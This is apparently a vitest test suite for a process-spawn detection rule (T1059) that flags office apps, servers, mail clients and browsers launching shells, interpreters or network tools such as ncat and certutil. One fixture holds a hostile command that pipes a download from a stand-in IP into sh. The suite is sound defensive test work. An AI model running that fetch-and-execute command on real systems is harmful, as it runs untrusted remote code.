import { describe, expect, it } from 'vitest';
import { allFindings, makeSnapshot, processInfo, runRule, severe, T0 } from '../test-support';
import { suspiciousSpawnRule } from './suspicious-spawn';

const init = processInfo(1, 0, 'systemd');

describe('suspicious-spawn rule (T1059)', () => {
  it('flags an office app starting a shell, with both command lines', () => {
    const snap = makeSnapshot({
      processes: [
        init,
        processInfo(100, 1, 'soffice.bin', { cmdline: '/usr/lib/libreoffice/program/soffice.bin invoice.docm' }),
        processInfo(101, 100, 'sh', { cmdline: 'sh -c curl http://203.0.113.9/x | sh', startTime: T0 - 1000 }),
      ],
    });
    const [f, ...rest] = allFindings(suspiciousSpawnRule(), [snap]);
    expect(rest).toEqual([]);
    expect(f).toMatchObject({ key: 'soffice.bin|sh', severity: 'CRITICAL', process: { pid: 101, name: 'sh', ppid: 100 } });
    expect(f?.evidence).toMatchObject({
      parentCategory: 'office',
      childKind: 'shell',
      parentPid: 100,
      childPid: 101,
      parentCmdline: '/usr/lib/libreoffice/program/soffice.bin invoice.docm',
      childCmdline: 'sh -c curl http://203.0.113.9/x | sh',
    });
  });

  it('knows Windows and macOS names, web servers, databases, mail clients and PDF readers', () => {
    const snap = makeSnapshot({
      processes: [
        processInfo(10, 1, 'WINWORD.EXE'),
        processInfo(11, 10, 'powershell.exe'),
        processInfo(20, 1, 'Microsoft Excel'),
        processInfo(21, 20, 'osascript'),
        processInfo(30, 1, 'php-fpm8.2'),
        processInfo(31, 30, 'bash'),
        processInfo(40, 1, 'postgres'),
        processInfo(41, 40, 'python3.11'),
        processInfo(50, 1, 'thunderbird'),
        processInfo(51, 50, 'curl'),
        processInfo(60, 1, 'AcroRd32.exe'),
        processInfo(61, 60, 'certutil.exe'),
        processInfo(70, 1, 'nginx'),
        processInfo(71, 70, 'ncat'),
        processInfo(80, 1, 'w3wp.exe'),
        processInfo(81, 80, 'cmd.exe'),
      ],
    });
    const keys = allFindings(suspiciousSpawnRule(), [snap]).map((f) => `${f.key}:${f.evidence.parentCategory}:${f.evidence.childKind}`);
    expect(keys.sort()).toEqual([
      'acrord32|certutil:pdf-reader:network tool',
      'microsoft excel|osascript:office:interpreter',
      'nginx|ncat:web-server:network tool',
      'php-fpm8.2|bash:web-server:shell',
      'postgres|python3.11:database:interpreter',
      'thunderbird|curl:mail-client:network tool',
      'w3wp|cmd:web-server:shell',
      'winword|powershell:office:shell',
    ]);
  });

  it('rates a browser starting a shell HIGH, and counts each new child once', () => {
    const browser = processInfo(500, 1, 'chrome');
    const first = makeSnapshot({ processes: [browser, processInfo(501, 500, 'sh', { startTime: T0 })] });
    const second = makeSnapshot({
      time: T0 + 2000,
      processes: [browser, processInfo(501, 500, 'sh', { startTime: T0 }), processInfo(502, 500, 'sh', { startTime: T0 + 1500 })],
    });
    const perTick = runRule(suspiciousSpawnRule(), [first, second, { ...second, time: T0 + 4000 }]);
    expect(perTick.map((t) => t.map((f) => [f.key, f.severity, f.occurrences]))).toEqual([[['chrome|sh', 'HIGH', 1]], [['chrome|sh', 'HIGH', 1]], []]);
  });

  it('ignores ordinary process trees and allowed pairs', () => {
    const snap = makeSnapshot({
      processes: [
        init,
        processInfo(2, 1, 'sshd'),
        processInfo(3, 2, 'bash'),
        processInfo(4, 3, 'python3'),
        processInfo(5, 3, 'curl'),
        processInfo(6, 1, 'gnome-terminal-'),
        processInfo(7, 6, 'zsh'),
        processInfo(8, 1, 'chrome'),
        processInfo(9, 8, 'chrome'),
        processInfo(10, 8, 'xdg-settings'),
        processInfo(11, 1, 'code'),
        processInfo(12, 11, 'bash'),
        processInfo(13, 1, 'postgres'),
        processInfo(14, 13, 'sh', { cmdline: 'sh -c cp pg_wal/0001 /archive' }),
        processInfo(15, 15, 'bash'),
      ],
    });
    const findings = allFindings(suspiciousSpawnRule({ allowPairs: ['postgres>sh'] }), [snap]);
    expect(findings).toEqual([]);
    expect(severe(allFindings(suspiciousSpawnRule(), [snap])).map((f) => f.key)).toEqual(['postgres|sh']);
  });
});
